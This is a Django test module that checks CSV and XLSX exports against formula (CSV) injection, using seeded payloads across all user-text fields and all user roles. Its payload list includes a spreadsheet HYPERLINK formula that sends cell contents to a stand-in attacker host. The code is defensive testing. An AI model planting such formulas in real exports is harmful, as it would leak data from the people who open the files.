"""Text that users type never becomes a live formula in a CSV or XLSX export (CSV injection).

Every user-text field that reaches an export (unit, group, period and criterion names, reason
labels, deduction notes, self-assessment explanations, the names frozen in published results) is
filled with formula payloads; then every export URL is downloaded as every role, and each file is
parsed: no XLSX cell is a formula, no CSV cell starts with a formula character unless it is a
number. The score template still reads back unchanged.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile

import pytest
from django.core.cache import cache
from django.db.models import F, Value
from django.db.models.functions import Concat, Mod
from django.urls import reverse
from openpyxl import load_workbook

from core.safe_cells import FORMULA_START, csv_cell
from indicators.models import Criterion
from scoring.models import (
    CriterionScore,
    Deduction,
    DeductionReason,
    Period,
    ResultSnapshotRow,
)
from surveys.models import Survey
from units.models import RankingGroup, Unit

from .reports_support import demo, most_deducted_criterion, stored, user

__all__ = ["demo"]

PAYLOADS = [
    "=1+41",
    '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
    "+1",
    "-1+2",
    "@SUM(A1)",
    "\t=1",
]
ROLES = ["canbo.snv", "lanhdao", "thutruong.stp", "chutich.anlac"]
# A cell may start with a minus only as a number: -2 (a rank lost), -1,5 or -1.5 (points lost).
NEGATIVE_NUMBER = re.compile(r"-\d+(?:[.,]\d+)?")


def _poison(queryset, field: str) -> None:
    """Put a payload in front of `field` of every row, the payload chosen by the row's id."""
    n = len(PAYLOADS)
    for i, payload in enumerate(PAYLOADS):
        queryset.annotate(slot=Mod(F("id"), n)).filter(slot=i).update(
            **{field: Concat(Value(payload + " "), F(field))}
        )


def _fill_every_user_text_with_payloads() -> None:
    _poison(Unit.objects.all(), "name")
    _poison(RankingGroup.objects.all(), "name")
    _poison(Period.objects.all(), "name")
    _poison(Criterion.objects.all(), "name")
    _poison(DeductionReason.objects.all(), "label")
    _poison(Deduction.objects.all(), "note")
    CriterionScore.objects.update(self_explanation=Value("giải trình"))
    _poison(CriterionScore.objects.all(), "self_explanation")
    _poison(ResultSnapshotRow.objects.all(), "unit_name")
    _poison(ResultSnapshotRow.objects.exclude(group_name=""), "group_name")
    cache.clear()  # the dashboards' cached aggregates hold the names as they were


def _export_urls() -> list[tuple[str, dict, str]]:
    """(url, query, CSV delimiter) of every CSV and XLSX export, over published (2023) and
    provisional (2024) figures and every ranking group."""
    urls = []
    for year in (2023, 2024):
        for group in ("khoi-so", "khoi-huyen"):
            ranked = stored(year, group)
            climber = ranked[min(6, len(ranked) - 1)].assessment.unit_id
            common = {"period": str(year), "group": group}
            tables = [
                ("ranking", common),
                ("heatmap", common),
                ("comparison", common),
                ("deductions", common),
                ("deductions", {**common, "criterion": most_deducted_criterion(year, group)}),
                ("climb", {**common, "unit": str(climber)}),
                ("unit", {"period": str(year), "unit": str(climber)}),
            ]
            for table, query in tables:
                for fmt in ("csv", "xlsx"):
                    urls.append((reverse("reports:export", args=[table, fmt]), query, ";"))
        for fmt in ("csv", "xlsx"):
            for round_ in ("1", "2"):
                urls.append(
                    (
                        reverse("scoring:scores_template", args=[year, fmt]),
                        {"round": round_},
                        ",",
                    )
                )
            urls.append((reverse("scoring:results_export", args=[year, fmt]), {}, ","))
            for survey in Survey.objects.filter(year=year).order_by("code"):
                urls.append((reverse("surveys:export", args=[survey.code, fmt]), {}, ";"))
        urls.append((reverse("targets:plan_export", args=[year]), {}, ";"))
    return urls


def _xlsx_texts(body: bytes, where: str) -> list[str]:
    """Every text cell of the workbook, after checking that none of its cells is a formula."""
    with zipfile.ZipFile(io.BytesIO(body)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, (where, name)
    texts = []
    for ws in load_workbook(io.BytesIO(body)).worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (where, cell.coordinate, cell.value)
                if isinstance(cell.value, str):
                    texts.append(cell.value)
    return texts


def _csv_texts(body: bytes, delimiter: str, where: str) -> list[str]:
    """Every cell of the CSV, after checking that none would run as a formula."""
    cells = [
        cell
        for row in csv.reader(io.StringIO(body.decode("utf-8-sig")), delimiter=delimiter)
        for cell in row
    ]
    for cell in cells:
        if cell.startswith(FORMULA_START):
            assert NEGATIVE_NUMBER.fullmatch(cell), (where, cell)
    return cells


@pytest.mark.usefixtures("demo")
def test_no_export_carries_a_live_formula_for_any_role(db, client):
    _fill_every_user_text_with_payloads()
    seen_csv: set[str] = set()
    seen_xlsx: set[str] = set()
    downloaded = dict.fromkeys(ROLES, 0)
    for url, query, delimiter in _export_urls():
        allowed = []
        for role in ROLES:
            client.force_login(user(role))
            response = client.get(url, query)
            where = (role, url, query)
            if response.status_code in (403, 404):
                continue
            assert response.status_code == 200, where
            allowed.append(role)
            downloaded[role] += 1
            if url.endswith(".xlsx"):
                texts = _xlsx_texts(response.content, str(where))
                seen_xlsx.update(p for p in PAYLOADS for t in texts if t.startswith(p))
            else:
                texts = _csv_texts(response.content, delimiter, str(where))
                seen_csv.update(p for p in PAYLOADS for t in texts if t.startswith(csv_cell(p)))
        assert allowed, (url, query)  # every export is downloaded by someone
    assert all(downloaded.values()), downloaded
    # The payloads did reach the files (as inert text), so the checks above looked at them.
    assert seen_xlsx == set(PAYLOADS)
    assert seen_csv == set(PAYLOADS)


@pytest.mark.usefixtures("demo")
def test_numbers_stay_numbers_in_the_exports(db, client):
    """A negative figure (a rank lost, a fall in percent) is written as a number, not as text."""
    client.force_login(user("lanhdao"))
    query = {"period": "2024", "group": "khoi-so"}
    response = client.get(reverse("reports:export", args=["comparison", "xlsx"]), query)
    rows = list(load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True))
    deltas = [row[3] for row in rows[3:] if row[3] is not None]
    assert deltas and all(isinstance(v, (int, float)) for v in deltas)
    assert any(v < 0 for v in deltas)
    response = client.get(reverse("reports:export", args=["comparison", "csv"]), query)
    cells = [
        row[3]
        for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";")
    ]
    negatives = [c for c in cells[1:] if c.startswith("-")]
    assert negatives and all(NEGATIVE_NUMBER.fullmatch(c) for c in negatives)
